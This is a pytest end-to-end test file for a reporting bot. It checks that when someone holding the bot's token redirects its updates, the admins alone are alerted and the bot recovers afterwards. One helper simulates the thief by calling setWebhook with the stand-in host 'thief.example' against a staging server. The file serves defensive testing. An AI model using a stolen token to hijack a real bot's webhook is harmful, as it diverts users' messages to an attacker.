"""Somebody else holds the token and takes the bot's updates: admins read it before the bot ends."""

import aiohttp
import pytest

from reportbot.cli.run import serving
from reportbot.errors import PollerConflict
from reportbot.settings import Settings
from tests.e2e.stage import TOKEN, Stage


async def call(stage: Stage, method: str, **params: str) -> None:
    """What a thief with the token does."""
    async with aiohttp.ClientSession() as session, session.post(f"{stage.url}/bot{TOKEN}/{method}", data=params) as got:
        assert got.status == 200, await got.text()


async def robbed(stage: Stage) -> None:
    """The bot at work until it knows that its updates are taken."""
    async with serving(Settings.load(stage.env)) as task:
        await stage.client.settled()
        await call(stage, "setWebhook", url="https://thief.example/x")
        await task


async def alarms(stage: Stage) -> list[str]:
    """What the admin read about it."""
    return [message.text for message in await stage.dewi.chat() if message.from_bot and "/revoke" in message.text]


async def test_a_thief_who_sets_a_webhook_is_told_to_the_admins_and_nobody_else(stage: Stage) -> None:
    await stage.dewi.start()
    with pytest.raises(PollerConflict):
        await robbed(stage)
    assert len(await alarms(stage)) == 1
    assert not [message for message in await stage.team.cards() if "/revoke" in message.text]


async def test_a_bot_that_is_started_again_and_again_says_it_once_and_works_once_the_thief_is_gone(
    stage: Stage,
) -> None:
    await stage.dewi.start()
    async with stage.bot():
        await stage.consent(stage.budi)
    for _ in range(2):
        with pytest.raises(PollerConflict):
            await robbed(stage)
    assert len(await alarms(stage)) == 1
    await call(stage, "deleteWebhook")
    async with stage.bot():
        await stage.file_report(stage.budi)
